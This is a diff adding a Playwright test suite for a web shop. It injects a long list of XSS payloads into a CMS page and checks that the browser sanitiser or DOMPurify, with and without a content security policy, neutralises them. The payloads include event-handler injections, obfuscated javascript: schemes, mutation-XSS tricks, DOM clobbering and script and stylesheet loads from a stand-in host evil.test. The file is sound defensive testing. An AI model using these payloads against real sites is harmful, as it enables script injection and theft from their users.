@@ -1,0 +1,241 @@
+import { type Browser, type BrowserContext, chromium, type Page } from 'playwright';
+import { buildIfNeeded } from '#sandbox/build.ts';
+import { browserLaunch, installBrowser } from '../../support/browser.ts';
+import { openShop, type Shop } from '../../support/shop.ts';
+import type { Attempt, Table } from '../table.ts';
+import { SHAPES } from './shapes.ts';
+
+/** What a payload does when it runs. Nothing may ever set it. */
+const HIT = 'window.hit=1';
+const EVIL = 'https://evil.test';
+
+const HANDLERS =
+  'onerror onload onclick onmouseover onfocus onblur onanimationstart onanimationend ontransitionend ontoggle onpointerenter onpointerover onscroll onwheel oncopy onbeforetoggle onloadstart oncanplay oncuechange onbegin onpageshow onresize onselectionchange onsecuritypolicyviolation'.split(
+    ' ',
+  );
+const SCHEMES = [
+  'javascript:',
+  'JaVaScRiPt:',
+  ' javascript:',
+  'java\tscript:',
+  'java\nscript:',
+  'javascript&colon;',
+  '&#106;avascript:',
+  '\u0001javascript:',
+  'vbscript:',
+  'data:text/html,<script>',
+  'data:text/html;base64,PHNjcmlwdD4=',
+  'blob:',
+  'view-source:',
+  'file:///',
+];
+const CARRIERS: readonly ((url: string) => string)[] = [
+  (url) => `<a href="${url}${HIT}">a</a>`,
+  (url) => `<img src="${url}${HIT}">`,
+  (url) => `<iframe src="${url}${HIT}"></iframe>`,
+  (url) => `<form action="${url}${HIT}"><button autofocus>b</button></form>`,
+  (url) => `<svg><a xlink:href="${url}${HIT}"><text y="9">s</text></a></svg>`,
+];
+const OTHERS = [
+  `<script>${HIT}</script>`,
+  `<script src="${EVIL}/x.js"></script>`,
+  `<svg><script>${HIT}</script></svg>`,
+  `<svg onload="${HIT}">`,
+  `<svg><animate onbegin="${HIT}" attributeName=x dur=1s>`,
+  `<svg><set attributeName="onmouseover" to="${HIT}">`,
+  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>${HIT}</script></svg>#x"/></svg>`,
+  `<svg><foreignObject><body onload="${HIT}"></foreignObject></svg>`,
+  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${HIT}&gt;">`,
+  `<math><mi//xlink:href="data:x,<script>${HIT}</script>">`,
+  `<iframe srcdoc="<script>parent.hit=1</script>"></iframe>`,
+  `<object data="data:text/html,<script>parent.hit=1</script>"></object>`,
+  `<embed src="data:text/html,<script>parent.hit=1</script>">`,
+  `<base href="${EVIL}/">`,
+  `<meta http-equiv="refresh" content="0;url=${EVIL}">`,
+  `<link rel="stylesheet" href="${EVIL}/x.css">`,
+  `<style>@import '${EVIL}/x.css';body{display:none}</style>`,
+  `<p style="background:url(${EVIL}/x)">p</p>`,
+  `<input autofocus onfocus="${HIT}">`,
+  `<details open ontoggle="${HIT}"><summary>s</summary></details>`,
+  `<video><source onerror="${HIT}"></video>`,
+  `<audio src="x" onerror="${HIT}"></audio>`,
+  `<body onload="${HIT}">`,
+  `<marquee onstart="${HIT}">m</marquee>`,
+  `<template><img src=x onerror="${HIT}"></template>`,
+  `<template shadowrootmode="open"><img src=x onerror="${HIT}"></template>`,
+  `<noscript><p title="</noscript><img src=x onerror=${HIT}>">`,
+  `<textarea><img title="</textarea><img src=x onerror=${HIT}>"></textarea>`,
+  `<title><img title="</title><img src=x onerror=${HIT}>"></title>`,
+  `<!--><img src=x onerror="${HIT}">-->`,
+  `<![CDATA[><img src=x onerror="${HIT}">]]>`,
+  `<img src=x onerror="${HIT}"`,
+  `<img/src=x/onerror=${HIT}>`,
+  `<<img src=x onerror="${HIT}">`,
+  `<form id="x" tabindex=0 onfocus="${HIT}"><input name="attributes"><input name="parentNode"></form>`,
+  `<a id="location" href="javascript:${HIT}">l</a><img name="body"><form name="documentElement"></form>`,
+  `<div is="x-y" onclick="${HIT}">d</div>`,
+  `<p popover id="p" onbeforetoggle="${HIT}">p</p><button popovertarget="p">b</button>`,
+  `<img srcset="${EVIL}/x 1x" src="${EVIL}/y">`,
+  `<a href="http://[">l</a><a href="//evil.test">m</a><a target="_blank" href="${EVIL}">n</a>`,
+  `<button formaction="javascript:${HIT}" autofocus>b</button>`,
+];
+const PAYLOADS = [
+  ...HANDLERS.map((name) => `<img src="/nothing.png" tabindex=0 autofocus ${name}="${HIT}">`),
+  ...SCHEMES.flatMap((scheme) => CARRIERS.map((carry) => carry(scheme))),
+  ...OTHERS,
+];
+
+const MODES = [
+  { name: 'the browser’s sanitiser', native: true, policy: true },
+  { name: 'DOMPurify', native: false, policy: true },
+  { name: 'the browser’s sanitiser, without the policy', native: true, policy: false },
+  { name: 'DOMPurify, without the policy', native: false, policy: false },
+] as const;
+
+const MARK = 'Das Ende des Textes.';
+
+/** Runs the work in a browser, on a shop that serves the built app. */
+async function inBrowser(work: (browser: Browser, shop: Shop) => Promise<void>): Promise<void> {
+  await buildIfNeeded();
+  installBrowser(console.log);
+  const shop = await openShop();
+  const browser = await chromium.launch(browserLaunch());
+  try {
+    await work(browser, shop);
+  } finally {
+    await browser.close();
+    await shop.close();
+  }
+}
+
+/** Shows the text on a page of the shop's content, and says what became of it. */
+async function shown(page: Page, shop: Shop, name: string, text: string): Promise<string[]> {
+  const content = `${text}</template></noscript></style></title></textarea></svg></math><p>${MARK}</p>`;
+  const body = {
+    member: [{ id: 1, code: 'imprint', enabled: true, translations: [{ locale: 'de', name, content }] }],
+    totalItems: 1,
+  };
+  await shop.disarmFaults();
+  await shop.armFault({ path: 'cms-plugin/pages', kind: 'wrongShape', body, times: 9 });
+  const address = `${shop.url}/imprint`;
+  await page.goto(address);
+  // A payload may hide what follows it in an element that is left out as a whole.
+  await page.getByRole('main').getByRole('heading', { level: 1 }).waitFor();
+  return page.evaluate(async (expected) => {
+    for (let frame = 0; frame < 3; frame += 1) await new Promise((resolve) => requestAnimationFrame(resolve));
+    const main = document.querySelector('main');
+    const wrong: string[] = [];
+    for (const each of main?.querySelectorAll('*') ?? []) {
+      for (const type of ['click', 'mouseover', 'pointerover', 'focus', 'error', 'load']) {
+        if (type === 'click' && each.closest('a[href]')) continue;
+        each.dispatchEvent(new Event(type));
+      }
+      for (const { name } of each.attributes)
+        if (/^on|^(?:srcdoc|formaction|style)$/.test(name) && each.closest('.rich-text'))
+          wrong.push(`${each.tagName} ${name}`);
+      if (
+        each instanceof HTMLAnchorElement &&
+        each.hasAttribute('href') &&
+        !/^(?:https?|mailto|tel):$/.test(each.protocol)
+      )
+        wrong.push(each.href);
+    }
+    const rich = main?.querySelector('.rich-text');
+    const out = rich?.querySelector(
+      'script, iframe, object, embed, form, input, style, link, meta, base, svg, math, template, button, video',
+    );
+    if (out) wrong.push(`an element ${out.tagName}`);
+    if ('hit' in window && window.hit === 1) wrong.push('it ran');
+    if (location.href !== expected) wrong.push(`it went to ${location.href}`);
+    return wrong;
+  }, address);
+}
+
+async function pageIn(context: BrowserContext, native: boolean): Promise<Page> {
+  if (!native) await context.addInitScript('delete Element.prototype.setHTML;');
+  return context.newPage();
+}
+
+async function hostilePages(attempt: Attempt): Promise<void> {
+  await inBrowser(async (browser, shop) => {
+    for (const mode of MODES) {
+      const context = await browser.newContext({ bypassCSP: !mode.policy, locale: 'de-DE' });
+      const page = await pageIn(context, mode.native);
+      let foreign: string[] = [];
+      page.on('response', (response) => {
+        if (!response.url().startsWith(shop.url) && /^https?:/.test(response.url())) foreign.push(response.url());
+      });
+      page.on('dialog', (dialog) => void dialog.dismiss());
+      const pages: [what: string, name: string, text: string][] = [
+        ...PAYLOADS.map((payload): [string, string, string] => [payload, 'Impressum', payload]),
+        ['all of them at once', 'Impressum', PAYLOADS.join('\n')],
+        ['all of them as the title', PAYLOADS.join(''), '<p>Text</p>'],
+      ];
+      for (const [what, name, text] of pages) {
+        foreign = [];
+        const wrong = await shown(page, shop, name, text).catch((error: unknown) => [String(error)]);
+        if (mode.policy) wrong.push(...foreign.map((url) => `it loaded ${url}`));
+        attempt(`${mode.name}: ${what}`, wrong.length === 0, wrong);
+      }
+      await context.close();
+    }
+  });
+}
+
+const PAGES = [
+  '/',
+  '/products',
+  '/products/WIND-NORDSEE-2032',
+  '/account/orders',
+  '/invoices',
+  '/imprint',
+  '/contact',
+  '/order-process/token?product=WIND-NORDSEE-2032&quantity=1000',
+  '/search?phrase=wind',
+];
+
+async function wrongShapes(attempt: Attempt): Promise<void> {
+  const bodies = SHAPES.flatMap(([type, text]): unknown[] => {
+    if (!type.includes('json') || text === '' || text === '{') return [];
+    return [JSON.parse(text)];
+  });
+  await inBrowser(async (browser, shop) => {
+    const context = await browser.newContext({ locale: 'de-DE' });
+    await shop.loginAs(context, 'julia');
+    const page = await context.newPage();
+    const uncaught: string[] = [];
+    page.on('pageerror', (error) => uncaught.push(error.message));
+    for (const path of PAGES) {
+      for (const body of bodies) {
+        uncaught.length = 0;
+        await shop.disarmFaults();
+        await shop.armFault({ path: '**', kind: 'wrongShape', body, times: 200 });
+        const what = `${path}: ${JSON.stringify(body).slice(0, 60)}`;
+        try {
+          await page.goto(shop.url + path);
+          await page.getByRole('main').waitFor();
+          await page.waitForFunction(
+            () =>
+              !document.querySelector('main [aria-busy="true"]') &&
+              (document.querySelector('main')?.textContent.trim().length ?? 0) > 10,
+          );
+          const isWhole =
+            (await page.getByRole('banner').isVisible()) && (await page.getByRole('contentinfo').isVisible());
+          attempt(what, isWhole && uncaught.length === 0, uncaught);
+        } catch (error) {
+          attempt(what, false, [String(error).slice(0, 120), ...uncaught]);
+        }
+      }
+    }
+  });
+}
+
+export const browserTables: Table[] = [
+  {
+    name: 'hostile pages of the shop’s content: payload × sanitiser × policy',
+    least: 540,
+    long: true,
+    run: hostilePages,
+  },
+  { name: 'answers of a wrong shape: page × shape', least: 108, long: true, run: wrongShapes },
+];
